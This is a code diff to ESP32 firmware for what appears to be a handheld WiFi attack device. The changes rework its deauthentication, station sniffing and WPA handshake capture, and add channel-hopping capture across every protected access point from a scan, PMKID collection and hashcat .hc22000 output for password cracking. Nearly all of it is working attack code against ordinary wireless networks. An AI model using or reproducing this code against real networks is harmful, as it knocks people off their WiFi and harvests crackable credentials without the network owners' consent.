@@ -12,24 +12,9 @@
 // Global pointer for the callback to access the instance
 static WiFiModule* wifiModuleInstance = nullptr;
 
-// PCAP Global Header
-struct pcap_hdr_t {
-    uint32_t magic_number;   /* magic number */
-    uint16_t version_major;  /* major version number */
-    uint16_t version_minor;  /* minor version number */
-    int32_t  thiszone;       /* GMT to local correction */
-    uint32_t sigfigs;        /* accuracy of timestamps */
-    uint32_t snaplen;        /* max length of captured packets, in octets */
-    uint32_t network;        /* data link type */
-};
-
-// PCAP Packet Header
-struct pcaprec_hdr_t {
-    uint32_t ts_sec;         /* timestamp seconds */
-    uint32_t ts_usec;        /* timestamp microseconds */
-    uint32_t incl_len;       /* number of octets of packet saved in file */
-    uint32_t orig_len;       /* actual length of packet */
-};
+// What each capture needs from the driver, see FrameFilter
+static const FrameNeeds stationFrames = {{0, 0, FRAME_ALL_SUBTYPES}};
+static const FrameNeeds handshakeFrames = {{0, 0, FRAME_SUBTYPE(FRAME_DATA_SUBTYPE) | FRAME_SUBTYPE(FRAME_QOS_SUBTYPE)}};
 
 // Deauth packet structure (Management Frame)
 uint8_t deauthPacket[26] = {
@@ -46,14 +31,9 @@ void WiFiModule::startDeauth() {
     isDeauthing = true;
     deauthPacketsSent = 0;
     
-    // Parse BSSID from selectedTarget
-    uint8_t bssid[6];
-    sscanf(selectedTarget.bssid.c_str(), "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", 
-           &bssid[0], &bssid[1], &bssid[2], &bssid[3], &bssid[4], &bssid[5]);
-           
     // Set source and BSSID in packet
-    memcpy(&deauthPacket[10], bssid, 6);
-    memcpy(&deauthPacket[16], bssid, 6);
+    memcpy(&deauthPacket[10], selectedTarget.bssid, 6);
+    memcpy(&deauthPacket[16], selectedTarget.bssid, 6);
     
     // Set destination (Station or Broadcast)
     if (selectedStation.length() > 0) {
@@ -76,39 +56,42 @@ void WiFiModule::stopDeauth() {
 void WiFiModule::startStationScan() {
     isScanningStations = true;
     detectedStations.clear();
-    wifiModuleInstance = this;
     
     // Set channel
     esp_wifi_set_channel(selectedTarget.channel, WIFI_SECOND_CHAN_NONE);
     
-    esp_wifi_set_promiscuous(true);
-    esp_wifi_set_promiscuous_rx_cb(&WiFiModule::snifferCallback);
+    frameFilter.set(FRAME_STATIONS, stationFrames);
+    applyFrameFilter();
 }
 
 void WiFiModule::stopStationScan() {
     isScanningStations = false;
-    esp_wifi_set_promiscuous(false);
-    wifiModuleInstance = nullptr;
+    frameFilter.clear(FRAME_STATIONS);
+    applyFrameFilter();
 }
 
 void WiFiModule::startHandshakeCapture() {
     isCapturing = true;
     handshakesCaptured = 0;
-    wifiModuleInstance = this;
+    eapol.clear();
+    captureTargets[0] = selectedTarget;
+    captureTargetCount = 1;
     
-    openPcapFile();
+    openPcapFile(apSsidString(selectedTarget));
 
     // Set channel
     esp_wifi_set_channel(selectedTarget.channel, WIFI_SECOND_CHAN_NONE);
     
-    esp_wifi_set_promiscuous(true);
-    esp_wifi_set_promiscuous_rx_cb(&WiFiModule::snifferCallback);
+    frameFilter.set(FRAME_HANDSHAKES, handshakeFrames);
+    applyFrameFilter();
 }
 
 void WiFiModule::stopHandshakeCapture() {
     isCapturing = false;
-    esp_wifi_set_promiscuous(false);
-    wifiModuleInstance = nullptr;
+    frameFilter.clear(FRAME_HANDSHAKES);
+    applyFrameFilter();
+    pcap.end();
+    hashes.end();
 }
 
 void WiFiModule::startMixedAttack() {
@@ -117,18 +100,15 @@ void WiFiModule::startMixedAttack() {
     isCapturing = true;
     deauthPacketsSent = 0;
     handshakesCaptured = 0;
-    wifiModuleInstance = this;
+    eapol.clear();
+    captureTargets[0] = selectedTarget;
+    captureTargetCount = 1;
 
-    openPcapFile();
+    openPcapFile(apSsidString(selectedTarget));
 
-    // Parse BSSID from selectedTarget
-    uint8_t bssid[6];
-    sscanf(selectedTarget.bssid.c_str(), "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", 
-           &bssid[0], &bssid[1], &bssid[2], &bssid[3], &bssid[4], &bssid[5]);
-           
     // Set source and BSSID in packet
-    memcpy(&deauthPacket[10], bssid, 6);
-    memcpy(&deauthPacket[16], bssid, 6);
+    memcpy(&deauthPacket[10], selectedTarget.bssid, 6);
+    memcpy(&deauthPacket[16], selectedTarget.bssid, 6);
 
     // Set destination (Station or Broadcast)
     if (selectedStation.length() > 0) {
@@ -143,81 +123,175 @@ void WiFiModule::startMixedAttack() {
     // Set channel
     esp_wifi_set_channel(selectedTarget.channel, WIFI_SECOND_CHAN_NONE);
     
-    esp_wifi_set_promiscuous(true);
-    esp_wifi_set_promiscuous_rx_cb(&WiFiModule::snifferCallback);
+    frameFilter.set(FRAME_HANDSHAKES, handshakeFrames);
+    applyFrameFilter();
 }
 
 void WiFiModule::stopMixedAttack() {
     isMixedAttack = false;
     isDeauthing = false;
     isCapturing = false;
-    esp_wifi_set_promiscuous(false);
-    wifiModuleInstance = nullptr;
+    frameFilter.clear(FRAME_HANDSHAKES);
+    applyFrameFilter();
+    pcap.end();
+    hashes.end();
 }
 
-void WiFiModule::snifferCallback(void* buf, wifi_promiscuous_pkt_type_t type) {
-    if (type != WIFI_PKT_DATA) return;
-    
-    wifi_promiscuous_pkt_t* pkt = (wifi_promiscuous_pkt_t*)buf;
-    uint8_t* data = pkt->payload;
-    int len = pkt->rx_ctrl.sig_len;
-    
-    // Check for EAPOL packet (EtherType 0x888E)
-    // IEEE 802.11 data frame structure is complex, simplified check:
-    // We look for the EAPOL header pattern in the payload
-    
-    // This is a simplified check. A robust implementation would parse the 802.11 header.
-    // EAPOL usually follows the LLC/SNAP header.
-    
-    // Station Sniffing Logic
-    if (wifiModuleInstance && wifiModuleInstance->isScanningStations) {
-        // Check for Data frames (Type 2, Subtype 0 or 8)
-        // Frame Control (2 bytes) | Duration (2) | Addr1 (6) | Addr2 (6) | Addr3 (6)
-        // Addr1: Receiver, Addr2: Transmitter, Addr3: BSSID (usually)
-        
-        // We want packets where either Addr1 or Addr2 matches our target BSSID
-        // The other address is likely the station
-        
-        if (len > 24) {
-            char addr1[18], addr2[18];
-            sprintf(addr1, "%02x:%02x:%02x:%02x:%02x:%02x", 
-                    data[4], data[5], data[6], data[7], data[8], data[9]);
-            sprintf(addr2, "%02x:%02x:%02x:%02x:%02x:%02x", 
-                    data[10], data[11], data[12], data[13], data[14], data[15]);
-            
-            String bssid = wifiModuleInstance->selectedTarget.bssid;
-            bssid.toLowerCase();
-            String a1 = String(addr1);
-            String a2 = String(addr2);
-            
-            String station = "";
-            if (a1 == bssid && a2 != bssid && !a2.startsWith("ff:ff")) station = a2;
-            else if (a2 == bssid && a1 != bssid && !a1.startsWith("ff:ff")) station = a1;
-            
-            if (station.length() > 0) {
-                bool found = false;
-                for (const auto& s : wifiModuleInstance->detectedStations) {
-                    if (s == station) {
-                        found = true;
-                        break;
-                    }
-                }
-                if (!found) {
-                    wifiModuleInstance->detectedStations.push_back(station);
-                }
-            }
+// Listens for handshakes from every protected AP of the last scan, hopping
+// between their channels. Calling it again switches schedule and restarts
+// the yield clock but keeps the sessions seen so far.
+void WiFiModule::startMultiCapture(CaptureSchedule mode) {
+    if (!isMultiCapture) {
+        captureTargetCount = 0;
+        for (uint16_t i = 0; i < scanResults.size() && captureTargetCount < CAPTURE_MAX_TARGETS; i++) {
+            const APInfo& ap = scanResults[i]; // Strongest first with the default sort
+            if (ap.encryption == WIFI_AUTH_OPEN || ap.encryption == WIFI_AUTH_WEP) continue;
+            captureTargets[captureTargetCount++] = ap;
         }
+        if (captureTargetCount == 0) return;
+
+        isScanning = false; // Hopping channels would spoil the scan
+        WiFi.scanDelete();
+        eapol.clear();
+        handshakesCaptured = 0;
+        openPcapFile("multi");
+    }
+
+    captureSchedule.begin(mode);
+    for (uint16_t i = 0; i < scanResults.size(); i++) {
+        if (findCaptureTarget(scanResults[i].bssid)) captureSchedule.addTarget(scanResults[i].channel);
     }
+    captureYieldBase = eapol.getComplete();
+    captureStartMs = millis();
 
-    for (int i = 0; i < len - 4; i++) {
-        if (data[i] == 0x88 && data[i+1] == 0x8E) { // EtherType EAPOL
-             if (wifiModuleInstance) {
-                 wifiModuleInstance->handshakesCaptured++;
-                 wifiModuleInstance->savePacketToSD(data, len);
-             }
-             break;
+    if (!isMultiCapture) {
+        isMultiCapture = true;
+        frameFilter.set(FRAME_HANDSHAKES, handshakeFrames);
+        applyFrameFilter();
+    }
+    multiCaptureLoop();
+}
+
+void WiFiModule::stopMultiCapture() {
+    if (!isMultiCapture) return;
+    isMultiCapture = false;
+    frameFilter.clear(FRAME_HANDSHAKES);
+    applyFrameFilter();
+    pcap.end();
+    hashes.end();
+    Serial.println("Capture: " + String(eapol.getComplete()) + " handshakes and " + String(eapol.getPmkids()) +
+                   " PMKIDs from " + String(eapol.getFrames()) + " EAPOL frames, " + String(captureSchedule.getHops()) +
+                   " hops");
+}
+
+// Points the driver at what the active consumers need, or turns promiscuous
+// mode off when there are none
+void WiFiModule::applyFrameFilter() {
+    bool wasOn = wifiModuleInstance != nullptr;
+    frameFilter.plan();
+    if (!frameFilter.isActive()) {
+        esp_wifi_set_promiscuous(false);
+        wifiModuleInstance = nullptr;
+        uint32_t callbacks = frameFilter.getCallbacks();
+        if (wasOn && callbacks) {
+            Serial.println("Sniffer: " + String(callbacks) + " callbacks, " + String(frameFilter.getRejected()) +
+                           " unwanted, " + String((float)frameFilter.getCallbackCycles() / callbacks / ESP.getCpuFreqMHz(), 2) +
+                           " us each");
         }
+        return;
+    }
+    if (!wasOn) frameFilter.resetCounters();
+    wifi_promiscuous_filter_t filter = {frameFilter.getFilterMask()};
+    esp_wifi_set_promiscuous_filter(&filter);
+    if (frameFilter.getCtrlFilterMask()) {
+        wifi_promiscuous_filter_t ctrl = {frameFilter.getCtrlFilterMask()};
+        esp_wifi_set_promiscuous_ctrl_filter(&ctrl);
+    }
+    wifiModuleInstance = this;
+    esp_wifi_set_promiscuous_rx_cb(&WiFiModule::snifferCallback);
+    esp_wifi_set_promiscuous(true);
+}
+
+void WiFiModule::multiCaptureLoop() {
+    bool hopped;
+    uint8_t channel = captureSchedule.update(millis(), hopped);
+    if (hopped) esp_wifi_set_channel(channel, WIFI_SECOND_CHAN_NONE);
+}
+
+const APInfo* WiFiModule::findCaptureTarget(const uint8_t* bssid) {
+    for (uint8_t i = 0; i < captureTargetCount; i++) {
+        if (memcmp(captureTargets[i].bssid, bssid, 6) == 0) return &captureTargets[i];
     }
+    return nullptr;
+}
+
+// Runs on the WiFi task for every frame the driver filter lets through
+void WiFiModule::snifferCallback(void* buf, wifi_promiscuous_pkt_type_t type) {
+    WiFiModule* module = wifiModuleInstance;
+    if (!module) return;
+    uint32_t start = ESP.getCycleCount();
+    wifi_promiscuous_pkt_t* pkt = (wifi_promiscuous_pkt_t*)buf;
+    uint8_t consumers = module->frameFilter.dispatch(pkt->payload);
+    if (consumers & (1 << FRAME_STATIONS)) module->stationFrame(pkt->payload, pkt->rx_ctrl.sig_len);
+    if (consumers & (1 << FRAME_HANDSHAKES)) module->handshakeFrame(pkt);
+    if (consumers & (1 << FRAME_AIRTIME)) module->airtime.account(pkt->rx_ctrl, pkt->payload);
+    if (consumers & (1 << FRAME_PROBES)) module->probes.push(pkt->rx_ctrl, pkt->payload, millis());
+    module->frameFilter.addCycles(ESP.getCycleCount() - start);
+}
+
+// Station scan: data frames between the target and anyone else
+void WiFiModule::stationFrame(const uint8_t* data, int len) {
+    // Frame Control (2 bytes) | Duration (2) | Addr1 (6) | Addr2 (6) | Addr3 (6)
+    // Addr1: Receiver, Addr2: Transmitter, Addr3: BSSID (usually)
+    // We want packets where either Addr1 or Addr2 matches our target BSSID
+    // The other address is likely the station
+    if (len <= 24) return;
+
+    // Compared as bytes, text is only made for a station worth listing
+    const uint8_t* bssid = selectedTarget.bssid;
+    const uint8_t* a1 = &data[4];
+    const uint8_t* a2 = &data[10];
+    bool fromAp = memcmp(a2, bssid, 6) == 0;
+    bool toAp = memcmp(a1, bssid, 6) == 0;
+    const uint8_t* other = nullptr;
+    if (toAp && !fromAp && !(a2[0] == 0xff && a2[1] == 0xff)) other = a2;
+    else if (fromAp && !toAp && !(a1[0] == 0xff && a1[1] == 0xff)) other = a1;
+    if (!other) return;
+
+    char text[18];
+    sprintf(text, "%02x:%02x:%02x:%02x:%02x:%02x", other[0], other[1], other[2], other[3], other[4], other[5]);
+    String station = text;
+    for (const auto& s : detectedStations) {
+        if (s == station) return;
+    }
+    detectedStations.push_back(station);
+}
+
+// Handshakes: the frame goes to the card, the key message to the tracker
+void WiFiModule::handshakeFrame(const wifi_promiscuous_pkt_t* pkt) {
+    const uint8_t* data = pkt->payload;
+    int len = pkt->rx_ctrl.sig_len;
+    if (eapolOffset(data, len) < 0) return;
+    EapolKey key;
+    bool isKey = parseEapolKey(data, len, key);
+    const APInfo* target = isKey ? findCaptureTarget(key.bssid) : nullptr;
+    if (isMultiCapture && !target) return;
+    pcap.append(pkt->rx_ctrl, data, len);
+    if (!isKey) return;
+
+    uint32_t now = millis();
+    uint8_t channel = pkt->rx_ctrl.channel;
+    uint32_t pmkids = eapol.getPmkids();
+    EapolResult result = eapol.observe(key, channel, now);
+    if (result == EAPOL_PROGRESS) captureSchedule.onProgress(channel, now);
+    handshakesCaptured = eapol.getComplete();
+
+    // Hashcat lines as soon as there is something to crack, queued for the loop
+    if (!target) return;
+    const EapolSession& session = *eapol.getLast();
+    const uint8_t* essid = (const uint8_t*)target->ssid;
+    if (eapol.getPmkids() != pmkids) hashes.writePmkid(session, essid, target->ssidLen);
+    if (result == EAPOL_COMPLETE) hashes.writeHandshake(session, essid, target->ssidLen);
 }
 
 // This function should be called from the loop when isDeauthing is true
@@ -249,13 +323,13 @@ void WiFiModule::drawTerminal(DisplayManager* display) {
     int yStatus = 160;
     
     display->getTFT()->drawString("Target:", 10, yTarget, 2);
-    display->getTFT()->drawString(selectedTarget.ssid.substring(0, 15), 80, yTarget, 2);
+    display->getTFT()->drawString(apSsidString(selectedTarget).substring(0, 15), 80, yTarget, 2);
     
     display->getTFT()->drawString("Channel:", 10, yChannel, 2);
     display->getTFT()->drawString(String(selectedTarget.channel), 80, yChannel, 2);
     
     display->getTFT()->drawString("BSSID:", 10, yBSSID, 2);
-    display->getTFT()->drawString(selectedTarget.bssid, 80, yBSSID, 2);
+    display->getTFT()->drawString(apBssidString(selectedTarget), 80, yBSSID, 2);
     
     // Draw separator
     display->getTFT()->drawFastHLine(10, ySep, 300, THEME_TEXT);
@@ -268,12 +342,13 @@ void WiFiModule::drawTerminal(DisplayManager* display) {
     if (isCapturing) {
         display->getTFT()->drawString("Handshakes:", 10, yHandshake, 2);
         display->getTFT()->drawString(String(handshakesCaptured), 120, yHandshake, 4);
+        display->getTFT()->drawString("PMKID: " + String(hashes.getPmkids()), 200, yHandshake, 2);
     }
     
     // Status indicator
     display->getTFT()->setTextDatum(MC_DATUM);
     if ((millis() / 500) % 2 == 0) {
-        display->getTFT()->setTextColor(TFT_RED, THEME_BG);
+        display->getTFT()->setTextColor(THEME_ERROR, THEME_BG);
         display->getTFT()->drawString("ATTACK IN PROGRESS", 160, yStatus, 2);
     }
     
@@ -298,12 +373,13 @@ void WiFiModule::drawTerminalUpdate(DisplayManager* display) {
     if (isCapturing) {
         // Update Handshakes count
         display->getTFT()->drawString(String(handshakesCaptured), 120, yHandshake, 4);
+        display->getTFT()->drawString("PMKID: " + String(hashes.getPmkids()), 200, yHandshake, 2);
     }
     
     // Status indicator
     display->getTFT()->setTextDatum(MC_DATUM);
     if ((millis() / 500) % 2 == 0) {
-        display->getTFT()->setTextColor(TFT_RED, THEME_BG);
+        display->getTFT()->setTextColor(THEME_ERROR, THEME_BG);
         display->getTFT()->drawString("ATTACK IN PROGRESS", 160, yStatus, 2);
     } else {
         // Clear the status text when blinking off
@@ -311,52 +387,53 @@ void WiFiModule::drawTerminalUpdate(DisplayManager* display) {
         display->getTFT()->drawString("ATTACK IN PROGRESS", 160, yStatus, 2);
     }
 }
-void WiFiModule::openPcapFile() {
+void WiFiModule::drawMultiCapture(DisplayManager* display) {
+    TFT_eSPI* tft = display->getTFT();
+    unsigned long elapsed = millis() - captureStartMs;
+    uint32_t yield = eapol.getComplete() - captureYieldBase;
+
+    tft->fillRect(0, 45, 320, 105, THEME_BG); // Keeps the hint at the bottom
+    tft->setTextDatum(TL_DATUM);
+    tft->setTextColor(THEME_TEXT, THEME_BG);
+    tft->drawString("Targets: " + String(captureTargetCount) + " on " + String(captureSchedule.getChannelCount()) +
+                    " ch   Channel: " + String(captureSchedule.getChannel()), 10, 50, 2);
+    tft->drawString(String(captureSchedule.getMode() == SCHEDULE_ADAPTIVE ? "Adaptive" : "Round robin") +
+                    "   Hops: " + String(captureSchedule.getHops()) + "   Holds: " + String(captureSchedule.getHolds()),
+                    10, 70, 2);
+    tft->drawString("In progress: " + String(eapol.getInProgress(millis())) + "   EAPOL: " + String(eapol.getFrames()),
+                    10, 90, 2);
+    tft->setTextColor(eapol.getComplete() ? THEME_OK : THEME_TEXT, THEME_BG);
+    tft->drawString("Handshakes: " + String(eapol.getComplete()) + "   Per min: " +
+                    String(elapsed ? yield * 60000.0f / elapsed : 0.0f, 1), 10, 110, 2);
+    uint32_t lines = hashes.getHandshakes() + hashes.getPmkids();
+    tft->setTextColor(lines ? THEME_OK : THEME_TEXT, THEME_BG);
+    tft->drawString("Hashes: " + String(lines) + " (" + String(hashes.getPmkids()) + " PMKID)   Replaced: " +
+                    String(eapol.getReplaced()), 10, 130, 2);
+    tft->setTextColor(THEME_TEXT, THEME_BG);
+}
+
+void WiFiModule::openPcapFile(String label) {
     if (!SD.exists("/capture")) {
         SD.mkdir("/capture");
     }
 
     // Create a unique filename based on SSID and timestamp
-    String ssidClean = selectedTarget.ssid;
-    ssidClean.replace(" ", "_");
+    String ssidClean = label;
     // Limit length to keep filename reasonable
     if (ssidClean.length() > 15) ssidClean = ssidClean.substring(0, 15);
     
-    // Remove any other invalid characters if necessary
-    
-    pcapFileName = "/capture/" + ssidClean + "_" + String(millis()) + ".pcap";
-    
-    File pcapFile = SD.open(pcapFileName, FILE_WRITE);
-    if (pcapFile) {
-        pcap_hdr_t pcapHeader;
-        pcapHeader.magic_number = 0xa1b2c3d4;
-        pcapHeader.version_major = 2;
-        pcapHeader.version_minor = 4;
-        pcapHeader.thiszone = 0;
-        pcapHeader.sigfigs = 0;
-        pcapHeader.snaplen = 65535;
-        pcapHeader.network = 105; // DLT_IEEE802_11
-
-        pcapFile.write((uint8_t*)&pcapHeader, sizeof(pcapHeader));
-        pcapFile.close();
-        // Serial.println("Created PCAP file: " + pcapFileName);
+    // FAT won't take <>:"/\|?* and "<HIDDEN>" has two of them
+    for (unsigned int i = 0; i < ssidClean.length(); i++) {
+        char c = ssidClean[i];
+        if (!isalnum(c) && c != '-') ssidClean[i] = '_';
     }
-}
+    
+    String base = "/capture/" + ssidClean + "_" + String(millis());
+    hashes.begin(base + ".hc22000");
 
-void WiFiModule::savePacketToSD(uint8_t* buf, int len) {
-    if (pcapFileName.length() == 0) return;
-
-    File pcapFile = SD.open(pcapFileName, FILE_APPEND);
-    if (pcapFile) {
-        pcaprec_hdr_t packetHeader;
-        unsigned long now = micros();
-        packetHeader.ts_sec = now / 1000000;
-        packetHeader.ts_usec = now % 1000000;
-        packetHeader.incl_len = len;
-        packetHeader.orig_len = len;
-
-        pcapFile.write((uint8_t*)&packetHeader, sizeof(packetHeader));
-        pcapFile.write(buf, len);
-        pcapFile.close();
-    }
+    // Absolute timestamps when the RTC has been set, time since boot otherwise
+    extern DisplayManager displayManager;
+    DateTime now = displayManager.getTime();
+    bool rtcSet = now.year() >= 2024 && now.year() < 2100;
+    pcap.begin(base + ".pcapng", rtcSet ? (uint64_t)now.unixtime() * 1000000ULL : 0);
 }